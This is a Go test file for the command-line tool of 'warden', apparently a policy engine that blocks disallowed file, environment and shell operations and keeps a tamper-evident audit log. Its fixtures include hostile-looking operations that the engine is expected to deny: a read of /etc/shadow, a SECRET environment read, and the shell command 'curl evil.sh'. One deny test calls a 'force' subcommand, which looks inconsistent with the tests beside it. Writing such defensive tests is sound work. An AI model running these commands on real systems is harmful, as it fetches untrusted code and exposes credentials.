// Copyright 2026 The Warden Authors
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package cli

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/peg/warden/internal/audit"
	"github.com/peg/warden/internal/engine"
	"github.com/peg/warden/internal/policy"
)

func execRoot(t *testing.T, args ...string) (string, error) {
	t.Helper()
	var out, errOut bytes.Buffer
	cmd := NewRootCmd(context.Background(), &out, &errOut)
	cmd.SetArgs(args)
	err := cmd.Execute()
	return out.String(), err
}

func writeFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	return path
}

func testEngine(t *testing.T, doc string) *engine.Engine {
	t.Helper()
	vars := policy.NewVariables(map[string]string{
		policy.VarPWD:    "/work/proj",
		policy.VarHome:   "/home/ada",
		policy.VarTmpDir: "/tmp",
	})
	cfg, err := policy.Parse([]byte(doc), vars)
	require.NoError(t, err)
	return engine.New(cfg, engine.ModeRun)
}

func decodeResponses(t *testing.T, out string) []response {
	t.Helper()
	var responses []response
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		if line == "" {
			continue
		}
		var r response
		require.NoError(t, json.Unmarshal([]byte(line), &r))
		responses = append(responses, r)
	}
	return responses
}

func TestExitCode(t *testing.T) {
	assert.Equal(t, 0, ExitCode(nil))
	assert.Equal(t, 1, ExitCode(errors.New("boom")))
	assert.Equal(t, 78, ExitCode(&exitError{code: 78, message: "blocked"}))
	assert.Equal(t, 78, ExitCode(fmt.Errorf("stream: %w", &exitError{code: 78})))
	assert.Equal(t, 130, ExitCode(&exitError{code: 130}))
	assert.Equal(t, 1, ExitCode(&exitError{code: 0}))
}

func TestDecideStreamAllows(t *testing.T) {
	eng := testEngine(t, "allow_read:\n  - /srv/data\n")
	in := strings.NewReader(
		`{"name":"open","args":["/srv/data/a.csv","r"]}` + "\n" +
			"\n" + // blank lines are tolerated
			`{"name":"os.stat","args":["/anywhere"]}` + "\n")
	var out bytes.Buffer

	require.NoError(t, decideStream(in, &out, eng, nil))

	responses := decodeResponses(t, out.String())
	require.Len(t, responses, 2)
	for _, r := range responses {
		assert.True(t, r.Proceed)
		assert.Zero(t, r.Code)
	}
}

func TestDecideStreamDenies(t *testing.T) {
	eng := testEngine(t, "allow_read:\n  - /srv/data\n")
	in := strings.NewReader(
		`{"name":"open","args":["/etc/shadow","r"]}` + "\n" +
			`{"name":"open","args":["/srv/data/ok","r"]}` + "\n")
	var out bytes.Buffer

	err := decideStream(in, &out, eng, nil)
	require.Error(t, err)
	assert.Equal(t, engine.AbortExitCode, ExitCode(err))

	// The stream stops at the violation: one response, proceed false.
	responses := decodeResponses(t, out.String())
	require.Len(t, responses, 1)
	assert.False(t, responses[0].Proceed)
	assert.Equal(t, engine.AbortExitCode, responses[0].Code)
	assert.Contains(t, responses[0].Message, "blocked")
}

func TestDecideStreamMalformedDescriptor(t *testing.T) {
	eng := testEngine(t, "allow_read:\n  - /\n")

	for _, line := range []string{
		`{"name":`,
		`{"args":["/x","r"]}`,
		`{"name":""}`,
	} {
		var out bytes.Buffer
		err := decideStream(strings.NewReader(line+"\n"), &out, eng, nil)
		require.Error(t, err, "line %q", line)
		assert.Equal(t, engine.AbortExitCode, ExitCode(err))

		responses := decodeResponses(t, out.String())
		require.Len(t, responses, 1)
		assert.False(t, responses[0].Proceed)
		assert.Equal(t, "unreadable operation descriptor", responses[0].Message)
	}
}

func TestDecideStreamRecordsTrail(t *testing.T) {
	dir := t.TempDir()
	sink, err := audit.NewJSONLSink(dir, audit.WithFsync(false))
	require.NoError(t, err)

	eng := testEngine(t, "allow_read:\n  - /srv/data\n")
	in := strings.NewReader(
		`{"name":"open","args":["/srv/data/a","r"]}` + "\n" +
			`{"name":"os.getenv","args":["SECRET"]}` + "\n")
	var out bytes.Buffer

	streamErr := decideStream(in, &out, eng, sink)
	require.Error(t, streamErr)
	require.NoError(t, sink.Close())

	events, _, err := audit.ReadEventsFromOffset(sink.Path(), 0)
	require.NoError(t, err)
	require.Len(t, events, 2)

	assert.Equal(t, "allow", events[0].Action)
	assert.Equal(t, "read", events[0].Category)
	assert.Equal(t, "/srv/data/a", events[0].Target)
	assert.Equal(t, "run", events[0].Mode)

	assert.Equal(t, "deny", events[1].Action)
	assert.Equal(t, "env_read", events[1].Category)
	assert.Equal(t, "SECRET", events[1].Target)
	assert.Equal(t, "no_rule_matched", events[1].Reason)

	broken, _, err := audit.VerifyChain(events, "")
	require.NoError(t, err)
	assert.Equal(t, -1, broken)
}

func TestRunCommandEndToEnd(t *testing.T) {
	dir := t.TempDir()
	policyPath := writeFile(t, dir, "policy.yaml", "allow_read:\n  - "+dir+"\n")
	eventsPath := writeFile(t, dir, "events.jsonl",
		`{"name":"open","args":["`+filepath.Join(dir, "x")+`","r"]}`+"\n")

	out, err := execRoot(t, "run",
		"--policy", policyPath,
		"--events", eventsPath,
		"--audit-dir", "")
	require.NoError(t, err)
	responses := decodeResponses(t, out)
	require.Len(t, responses, 1)
	assert.True(t, responses[0].Proceed)
}

func TestRunCommandDenyExitCode(t *testing.T) {
	dir := t.TempDir()
	policyPath := writeFile(t, dir, "policy.yaml", "allow_read:\n  - "+dir+"\n")
	eventsPath := writeFile(t, dir, "events.jsonl",
		`{"name":"open","args":["/etc/shadow","r"]}`+"\n")

	_, err := execRoot(t, "force",
		"--policy", policyPath,
		"--events", eventsPath,
		"--audit-dir", "")
	require.Error(t, err)
	assert.Equal(t, 78, ExitCode(err))
}

func TestRunCommandMissingPolicy(t *testing.T) {
	_, err := execRoot(t, "run",
		"--policy", filepath.Join(t.TempDir(), "absent.yaml"),
		"--events", "-",
		"--audit-dir", "")
	assert.Error(t, err)
}

func TestRunCommandBadVarFlag(t *testing.T) {
	dir := t.TempDir()
	policyPath := writeFile(t, dir, "policy.yaml", "allow_read:\n  - /\n")
	_, err := execRoot(t, "run",
		"--policy", policyPath,
		"--var", "NOEQUALS",
		"--audit-dir", "")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "--var")
}

func TestInitCommand(t *testing.T) {
	path := filepath.Join(t.TempDir(), ".warden.yaml")

	out, err := execRoot(t, "init", "--policy", path)
	require.NoError(t, err)
	assert.Contains(t, out, "standard")

	// The generated file must load cleanly.
	vars := policy.NewVariables(map[string]string{
		policy.VarPWD:    "/work",
		policy.VarHome:   "/home/ada",
		policy.VarTmpDir: "/tmp",
	})
	cfg, err := policy.Load(path, vars)
	require.NoError(t, err)
	assert.False(t, cfg.Empty())

	// Refuses to clobber without --force.
	_, err = execRoot(t, "init", "--policy", path)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "--force")

	_, err = execRoot(t, "init", "--policy", path, "--force", "--profile", "paranoid")
	assert.NoError(t, err)

	_, err = execRoot(t, "init", "--policy", path, "--force", "--profile", "bogus")
	assert.Error(t, err)
}

func TestValidateCommand(t *testing.T) {
	dir := t.TempDir()

	valid := writeFile(t, dir, "ok.yaml", "allow_read:\n  - /srv\n")
	out, err := execRoot(t, "validate", "--policy", valid)
	require.NoError(t, err)
	assert.Contains(t, out, "valid")

	empty := writeFile(t, dir, "empty.yaml", "")
	out, err = execRoot(t, "validate", "--policy", empty)
	require.NoError(t, err)
	assert.Contains(t, out, "no rules")

	bad := writeFile(t, dir, "bad.yaml", "allow_reads:\n  - /srv\n")
	_, err = execRoot(t, "validate", "--policy", bad)
	assert.Error(t, err)
}

func TestHashCommand(t *testing.T) {
	dir := t.TempDir()
	path := writeFile(t, dir, "tool", "payload")
	sum := sha256.Sum256([]byte("payload"))
	want := "sha256:" + hex.EncodeToString(sum[:])

	out, err := execRoot(t, "hash", path)
	require.NoError(t, err)
	assert.Equal(t, want+"  "+path+"\n", out)

	_, err = execRoot(t, "hash", filepath.Join(dir, "missing"))
	assert.Error(t, err)
}

func TestVerifyCommand(t *testing.T) {
	dir := t.TempDir()
	sink, err := audit.NewJSONLSink(dir, audit.WithFsync(false))
	require.NoError(t, err)
	for _, target := range []string{"/a", "/b", "/c"} {
		require.NoError(t, sink.Write(audit.Event{
			Event: "open", Category: "read", Target: target,
			Action: "allow", Reason: "rule_match", Mode: "run",
		}))
	}
	path := sink.Path()
	require.NoError(t, sink.Close())

	out, err := execRoot(t, "verify", "--audit-dir", dir)
	require.NoError(t, err)
	assert.Contains(t, out, "OK: 3 events across 1 files, chain intact")

	// Flip a recorded decision without recomputing hashes.
	data, err := os.ReadFile(path)
	require.NoError(t, err)
	tampered := bytes.Replace(data, []byte(`"target":"/b"`), []byte(`"target":"/B"`), 1)
	require.NotEqual(t, data, tampered)
	require.NoError(t, os.WriteFile(path, tampered, 0o600))

	_, err = execRoot(t, "verify", "--audit-dir", dir)
	require.Error(t, err)
	assert.Equal(t, 1, ExitCode(err))
	assert.Contains(t, err.Error(), "chain broken")
}

func TestVerifyCommandEmptyDir(t *testing.T) {
	out, err := execRoot(t, "verify", "--audit-dir", t.TempDir())
	require.NoError(t, err)
	assert.Contains(t, out, "No trail files found")
}

func TestLogCommand(t *testing.T) {
	dir := t.TempDir()
	sink, err := audit.NewJSONLSink(dir, audit.WithFsync(false))
	require.NoError(t, err)
	require.NoError(t, sink.Write(audit.Event{
		Event: "open", Category: "read", Target: "/a",
		Action: "allow", Reason: "rule_match", Mode: "run",
	}))
	require.NoError(t, sink.Write(audit.Event{
		Event: "os.system", Category: "shell", Target: "curl evil.sh",
		Action: "deny", Reason: "no_rule_matched", Mode: "run",
	}))
	require.NoError(t, sink.Close())

	out, err := execRoot(t, "log", "--audit-dir", dir, "--json")
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	assert.Len(t, lines, 2)

	out, err = execRoot(t, "log", "--audit-dir", dir, "--deny", "--no-color")
	require.NoError(t, err)
	assert.Contains(t, out, "curl evil.sh")
	assert.NotContains(t, out, "/a")

	out, err = execRoot(t, "log", "--audit-dir", dir, "--json", "-n", "1")
	require.NoError(t, err)
	lines = strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, 1)
	var last audit.Event
	require.NoError(t, json.Unmarshal([]byte(lines[0]), &last))
	assert.Equal(t, "curl evil.sh", last.Target)
}

func TestLogCommandEmpty(t *testing.T) {
	out, err := execRoot(t, "log", "--audit-dir", t.TempDir())
	require.NoError(t, err)
	assert.Contains(t, out, "No events found")
}

func TestVersionCommand(t *testing.T) {
	out, err := execRoot(t, "version")
	require.NoError(t, err)
	assert.Contains(t, out, "warden")

	out, err = execRoot(t, "--version")
	require.NoError(t, err)
	assert.Contains(t, out, "warden")
}
